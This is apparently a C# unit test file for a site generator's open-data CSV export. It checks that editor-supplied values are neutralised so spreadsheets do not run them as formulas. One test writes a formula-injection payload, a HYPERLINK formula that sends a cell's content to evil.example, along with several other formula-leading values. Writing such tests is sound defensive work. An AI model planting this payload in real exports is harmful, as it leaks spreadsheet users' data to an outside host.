using System.Text;
using Transferkatalog.Pipeline;
using Transferkatalog.Tests.FindReuse;
using Transferkatalog.Tests.Support;

namespace Transferkatalog.Tests.Robustness;

/// <summary>Editors' text in the open-data exports: nothing in it may turn into a formula or break the format.</summary>
public sealed class ExportRobustnessTests : IDisposable
{
    private readonly HostileInput input = new();

    public void Dispose() => input.Dispose();

    private Dictionary<string, string> CsvRow(string slug)
    {
        var result = new SiteBuilder().Build(new BuildOptions(ContentDir: input.Sample.Content, ThemeDir: Repo.Theme, OutputDir: input.Sample.Output), write: false);
        Assert.True(result.Succeeded, string.Join(Environment.NewLine, result.Diagnostics));
        var bytes = result.Files.Single(f => f.RelativePath == "daten/katalog.csv").Content;
        var rows = Rfc4180.Parse(Encoding.UTF8.GetString(bytes.AsSpan(3)));
        return rows[0].Zip(rows.Single(r => r[0] == slug)).ToDictionary(p => p.First, p => p.Second);
    }

    [Fact]
    public void Cells_that_spreadsheets_would_run_as_formulas_are_neutralised()
    {
        // A title "=HYPERLINK(...)" reached the CSV verbatim, and spreadsheet programs execute it on opening the file.
        input.Sample.Write("projekte/x.md", "---\n" + HostileInput.ValidFrontMatter
            .Replace("titel: T", "titel: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Klick\\\")\"", StringComparison.Ordinal)
            .Replace("kurzbeschreibung: K", "kurzbeschreibung: \"@SUM(1+1)\"", StringComparison.Ordinal)
            .Replace("  organisation: O", "  organisation: \"-2+3\"\n  telefon: +49 5271 965-0", StringComparison.Ordinal)
            + "stichworte: [\"+cmd\", normal]\n---\nText.\n");
        var row = CsvRow("x");
        Assert.Equal("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")", row["titel"]);
        Assert.Equal("'@SUM(1+1)", row["kurzbeschreibung"]);
        Assert.Equal("'-2+3", row["kontakt_organisation"]);
        Assert.Equal("'+49 5271 965-0", row["kontakt_telefon"]);
        Assert.Equal("'+cmd; normal", row["stichworte"]);
    }

    [Fact]
    public void Ordinary_cells_are_unchanged()
    {
        var row = CsvRow("dorfladen-app");
        Assert.Equal("Dorfladen-App", row["titel"]);
        Assert.Equal("2026-09-15", row["aktualisiert"]);
    }
}
